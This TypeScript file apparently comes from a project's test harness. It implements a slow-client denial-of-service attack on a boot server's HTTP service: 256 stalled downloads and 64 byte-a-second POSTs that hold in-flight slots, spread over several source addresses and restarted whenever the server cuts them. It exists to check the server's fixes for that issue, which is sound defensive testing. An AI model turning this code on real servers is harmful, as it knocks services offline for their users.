// Issue #14 item 4: HTTP slots held by clients that never finish. Before the limits, a request
// held one of the 256 in-flight slots until its response ended and nothing timed out a stalled one,
// so 256 clients that asked for a big boot file and never read it (or POSTed slowly) made
// kickstarts, iPXE scripts and /RPC2 answer 503 to every node.
//
// Behaviour (scale 1: 256 readers and 64 slow POSTs, spread round-robin over the source addresses):
//   - a reader GETs the largest boot file the server has (probed once at start), reads the status
//     line and nothing after it: once the socket buffers are full the server's writes stall. It
//     writes a CRLF every second (RFC 9112 §2.2 lets a server ignore empty lines before a request)
//     only to notice a reset; a refusal (429, 503...) is asked again after RETRY_MS, a held
//     download the server cuts is asked again at once;
//   - a slow POST declares 4 KiB for /RPC2 and sends one byte a second; when the server cuts it
//     (408 at its request deadline, or a reset) it starts again at once.
import { connect, type Socket } from 'node:net';
import { request } from 'node:http';
import type { Attack, AttackTarget, RunningAttack } from './types.js';

export const READERS = 256;
export const SLOW_POSTS = 64;
/** netroot's installer initrd first (boot.installInitrd, the largest boot file), then the kernel and iPXE. */
export const DEFAULT_PATHS = ['/boot/files/install/initrd.img', '/boot/files/install/vmlinuz', '/boot/files/ipxe.efi', '/boot/files/undionly.kpxe'] as const;
const RETRY_MS = 1000;
const AGAIN_MS = 100;
const POST_BYTES = 4096;

type Stats = {
  /** Requests sent (GETs and POSTs, first ones and again after a refusal or a cut). */
  requests: number;
  /** Downloads the server started (200) and the attack holds unread right now. */
  held: number;
  heldPeak: number;
  /** Answers that refused a request: 503 (busy) and 429 (too many from this address). */
  refused: number;
  busy: number;
  perSource: number;
  /** Held downloads the server cut (reset or closed before the file's end). */
  cut: number;
  /** Slow POSTs sending right now, and those the server ended (408 or reset). */
  posting: number;
  postsCut: number;
  posts408: number;
};

async function probe(t: AttackTarget, source: string | undefined, paths: readonly string[]): Promise<string> {
  for (const path of paths) {
    const status = await new Promise<number>((resolve) => {
      const req = request({ host: t.host, port: t.httpPort, path, method: 'HEAD', agent: false, ...(source ? { localAddress: source } : {}) }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      req.on('error', () => resolve(0));
      req.end();
    });
    if (status === 200) return path;
  }
  throw new Error(`http-stall: the server at ${t.host}:${t.httpPort} serves none of ${paths.join(', ')}`);
}

export function httpStall(o: { paths?: readonly string[] } = {}): Attack {
  return {
    name: 'http-stall',
    what: 'issue #14 item 4: 256 GETs of the largest boot file that never read, and 64 POSTs to /RPC2 that send a byte a second, holding HTTP in-flight slots',
    async start(t, opts): Promise<RunningAttack> {
      const scale = opts?.scale ?? 1;
      const sources: (string | undefined)[] = t.sourceAddresses && t.sourceAddresses.length > 0 ? [...t.sourceAddresses] : [undefined];
      const path = await probe(t, sources[0], o.paths ?? DEFAULT_PATHS);
      const st: Stats = { requests: 0, held: 0, heldPeak: 0, refused: 0, busy: 0, perSource: 0, cut: 0, posting: 0, postsCut: 0, posts408: 0 };
      const sockets = new Set<Socket>();
      const timers = new Set<NodeJS.Timeout>();
      let stopped = false;

      const later = (ms: number, fn: () => void) => {
        if (stopped) return;
        const tm = setTimeout(() => {
          timers.delete(tm);
          if (!stopped) fn();
        }, ms);
        timers.add(tm);
      };
      const open = (from: string | undefined, head: string): Socket => {
        const s = connect({ host: t.host, port: t.httpPort, ...(from ? { localAddress: from } : {}) });
        sockets.add(s);
        s.on('error', () => {});
        s.once('close', () => sockets.delete(s));
        s.write(head);
        st.requests++;
        return s;
      };

      /** Resolves once the first answer (or the close) is in: the attack is then at strength. */
      const reader = (from: string | undefined): Promise<void> =>
        new Promise((ready) => {
          const s = open(from, `GET ${path} HTTP/1.1\r\nHost: ${t.host}:${t.httpPort}\r\n\r\n`);
          let status = 0;
          let head = '';
          let tick: NodeJS.Timeout | undefined;
          const onData = (c: Buffer) => {
            head += c.toString('latin1', 0, Math.min(c.length, 32));
            if (head.length < 12) return;
            s.off('data', onData);
            status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0);
            if (status === 200) {
              s.pause(); // never read again
              st.held++;
              st.heldPeak = Math.max(st.heldPeak, st.held);
              tick = setInterval(() => s.write('\r\n'), 1000);
            } else {
              st.refused++;
              if (status === 503) st.busy++;
              if (status === 429) st.perSource++;
              s.resume(); // read the refusal to its end; the server closes (Connection: close)
            }
            ready();
          };
          s.on('data', onData);
          s.once('close', () => {
            clearInterval(tick);
            ready();
            if (status === 200) {
              st.held--;
              st.cut++;
              later(AGAIN_MS, () => void reader(from));
            } else later(RETRY_MS, () => void reader(from));
          });
        });

      const poster = (from: string | undefined): Promise<void> =>
        new Promise((ready) => {
          const s = open(from, `POST /RPC2 HTTP/1.1\r\nHost: ${t.host}:${t.httpPort}\r\nContent-Type: text/xml\r\nContent-Length: ${POST_BYTES}\r\n\r\n`);
          st.posting++;
          let sent = 0;
          const tick = setInterval(() => {
            if (sent++ < POST_BYTES) s.write('<');
          }, 1000);
          s.once('connect', () => ready());
          s.on('data', (c: Buffer) => {
            if (/^HTTP\/1\.[01] 408/.test(c.toString('latin1', 0, 16))) st.posts408++;
          });
          s.once('close', () => {
            clearInterval(tick);
            ready();
            st.posting--;
            st.postsCut++;
            later(AGAIN_MS, () => void poster(from));
          });
        });

      const starting: Promise<void>[] = [];
      const readers = Math.max(1, Math.round(READERS * scale));
      const posts = Math.max(1, Math.round(SLOW_POSTS * scale));
      for (let i = 0; i < readers; i++) starting.push(reader(sources[i % sources.length]));
      for (let i = 0; i < posts; i++) starting.push(poster(sources[i % sources.length]));
      await Promise.all(starting);

      return {
        stats: () => ({ ...st, sockets: sockets.size }),
        async stop() {
          stopped = true;
          for (const tm of timers) clearTimeout(tm);
          timers.clear();
          const closing = [...sockets].map((s) => new Promise<void>((r) => (s.destroyed ? r() : (s.once('close', () => r()), s.destroy()))));
          await Promise.all(closing);
        },
      };
    },
  };
}

export const attack: Attack = httpStall();
